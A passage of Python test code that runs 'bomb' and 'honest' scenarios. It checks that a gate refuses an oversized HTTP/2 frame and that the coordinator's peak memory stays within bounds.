                DRIVER, folder / EX12.module_file, isolation=level, quiet_seconds=QUIET
            )
        )
        assert seen, "no coordinator was seen"
        peaks[name] = max(seen.values())
        outcomes = judged(run, exercise_checks())
        print(f"{name} [{level}]: the coordinator's peak RSS {peaks[name] >> 10} MiB; {outcomes}")
        assert all(category == "passed" for _, category, _ in outcomes), outcomes
        if name == "bomb":
            assert any("an HTTP/2 frame of 1048576 bytes" in why for *_, why in run.gate.refused)
    assert peaks["bomb"] - peaks["honest"] < 32 << 10
